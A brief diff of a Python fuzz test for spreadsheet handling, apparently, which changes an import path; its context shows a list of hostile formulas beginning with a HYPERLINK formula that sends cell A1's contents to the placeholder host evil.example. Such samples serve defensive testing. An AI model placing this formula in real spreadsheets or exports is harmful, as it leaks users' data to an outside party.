@@ -13,7 +13,7 @@ import openpyxl
 from hypothesis import strategies as st
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
-from tests.fuzz import hostile
+from tests.support.fuzz import hostile
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Klik her")',
